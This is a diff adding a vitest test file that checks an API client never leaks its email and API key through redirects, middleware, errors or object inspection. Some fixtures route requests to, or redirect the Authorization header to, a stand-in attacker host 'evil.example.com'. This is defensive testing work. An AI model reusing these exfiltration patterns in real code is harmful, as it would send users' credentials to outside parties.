@@ -1,0 +1,170 @@
+// @ts-nocheck
+import { inspect } from "node:util";
+import { describe, expect, it } from "vitest";
+import { type ClientOptions, createClient, unwrap } from "../../../src/index.ts";
+import { account, answer, clientOf, success } from "../../helpers/client.ts";
+
+const pair = `${account.email}:${account.apiKey}`;
+const secrets = [account.apiKey, account.email, btoa(pair), encodeURIComponent(account.email)];
+
+/** Whatever can be seen of a value: inspected with everything hidden, as JSON, as text, its stack. */
+function seen(value: unknown): string {
+  const stack = value instanceof Error ? `${value.stack}${value.message}` : "";
+  return [
+    inspect(value, { depth: Number.POSITIVE_INFINITY, showHidden: true, getters: true }),
+    JSON.stringify(value),
+    String(value),
+    stack,
+  ].join("\n");
+}
+
+const expectNoSecret = (value: unknown) => {
+  const text = seen(value);
+  for (const secret of secrets) expect(text).not.toContain(secret);
+};
+
+const caught = (call: Promise<unknown>) =>
+  call.then(
+    () => expect.unreachable(),
+    (error: unknown) => error,
+  );
+
+describe("credentials travel", () => {
+  it("as HTTP Basic in UTF-8, in each request that needs them", async () => {
+    const { client, requests } = clientOf(() => answer(success), { email: "jürgen@example.com" });
+    await client.deleteDraft({ draft_id: 1 });
+    await client.getServerSettings();
+    const [first, second] = requests.map((request) => request.headers.get("Authorization"));
+    const bytes = Buffer.from(first?.replace("Basic ", "") ?? "", "base64");
+    expect(bytes.toString("utf8")).toBe(`jürgen@example.com:${account.apiKey}`);
+    expect(second).toBeNull();
+  });
+
+  it("to no other server, even where middleware or a path call turns a request there", async () => {
+    const { client, requests } = clientOf(() => answer(success), {
+      middleware: [
+        { onRequest: ({ request }) => new Request("https://evil.example.com/", request) },
+      ],
+    });
+    await client.deleteDraft({ draft_id: 1 });
+    const plain = clientOf(() => answer(success));
+    await plain.client.raw.GET("/api/v1/invites", { baseUrl: "https://evil.example.com" });
+    for (const request of [...requests, ...plain.requests]) {
+      expect(new URL(request.url).host).toBe("evil.example.com");
+      expect(request.headers.has("Authorization")).toBe(false);
+    }
+  });
+
+  it("with redirect: manual, so that no redirect carries them", async () => {
+    const { client, requests } = clientOf(() => answer(success));
+    await client.deleteDraft({ draft_id: 1 });
+    await client.raw.GET("/api/v1/invites", { redirect: "follow" });
+    expect(requests.map(({ redirect }) => redirect)).toEqual(["manual", "manual"]);
+  });
+
+  it("and a fetch that followed a redirect all the same is told on", async () => {
+    const followed = answer(success);
+    Object.defineProperty(followed, "redirected", { value: true });
+    const { client } = clientOf(() => followed);
+    expect(await caught(client.listInvitations())).toMatchObject({ name: "RedirectError" });
+  });
+});
+
+describe("credentials do not appear", () => {
+  it("in the client, its methods, its raw client and their inspection", async () => {
+    const { client } = clientOf(() => answer(success));
+    await client.deleteDraft({ draft_id: 1 });
+    expectNoSecret(client);
+    expectNoSecret(client.raw);
+    for (const member of Object.values(client)) expectNoSecret(member);
+  });
+
+  it("in what middleware sees", async () => {
+    const observed: unknown[] = [];
+    const { client } = clientOf(() => answer(success), {
+      middleware: [
+        {
+          onRequest: ({ request, options }) =>
+            void observed.push(request, [...request.headers], options),
+          onResponse: ({ response }) => void observed.push(response),
+        },
+      ],
+    });
+    await client.deleteDraft({ draft_id: 1 });
+    expect(observed).toHaveLength(4);
+    expectNoSecret(observed);
+  });
+
+  it("in results and in what hooks are told", async () => {
+    const told: unknown[] = [];
+    let turn = 0;
+    const { client } = clientOf(
+      () => {
+        if (turn++ === 0) throw new Error(`could not send ${btoa(pair)}`);
+        return answer({ ...success, ignored_parameters_unsupported: ["x"] });
+      },
+      {
+        retry: { onRetry: (retry) => told.push(retry) },
+        onIgnoredParameters: (ignored) => told.push(ignored),
+      },
+    );
+    told.push(await client.deleteDraft({ draft_id: 1 }));
+    expect(told).toHaveLength(3);
+    expectNoSecret(told);
+  });
+
+  const echoes: Record<string, (request: Request) => Response> = {
+    "a network failure whose message has them": (request) => {
+      throw new Error(`failed: ${request.headers.get("Authorization")}`);
+    },
+    "a network failure that holds the request": (request) => {
+      throw Object.assign(new Error("failed"), { config: { request } });
+    },
+    "a network failure whose cause has them": () => {
+      throw new TypeError("fetch failed", { cause: new Error(pair) });
+    },
+    "a failure that is no Error": (request) => {
+      throw request.headers.get("Authorization");
+    },
+    "an HTML page that echoes them": (request) =>
+      new Response(`<pre>${request.headers.get("Authorization")} ${pair}</pre>`),
+    "a JSON answer that echoes them": (request) =>
+      answer({ headers: [...request.headers], pair }, { status: 500 }),
+    "a redirect that echoes them": (request) =>
+      new Response(null, {
+        status: 302,
+        headers: { Location: `https://evil.example.com/?${request.headers.get("Authorization")}` },
+      }),
+    "an error of the service that echoes them": (request) =>
+      answer(
+        {
+          result: "error",
+          code: "UNAUTHORIZED",
+          msg: `${pair} ${request.headers.get("Authorization")}`,
+        },
+        { status: 401 },
+      ),
+  };
+  it.each(Object.entries(echoes))("in the error after %s", async (_, respond) => {
+    const { client } = clientOf(respond, { retry: false });
+    expectNoSecret(await caught(client.deleteDraft({ draft_id: 1 }).then(unwrap)));
+  });
+
+  it("in the errors of a timeout, an abort and a bad argument", async () => {
+    const { client } = clientOf(() => new Promise<Response>(() => {}), { timeout: 10 });
+    expectNoSecret(await caught(client.deleteDraft({ draft_id: 1 })));
+    const signal = AbortSignal.abort(new Error(account.apiKey));
+    expectNoSecret(await caught(client.deleteDraft({ draft_id: 1 }, { signal })));
+    expectNoSecret(await caught(client.deleteDraft({ draft_id: Number.NaN })));
+  });
+
+  it.each(["email", "apiKey"])("in the refusal of a bad %s", (option) => {
+    const given = { ...account, featureLevel: 0, [option]: `${account.apiKey}\n${pair}` };
+    try {
+      createClient(given as ClientOptions<0>);
+      expect.unreachable();
+    } catch (error) {
+      expectNoSecret(error);
+    }
+  });
+});
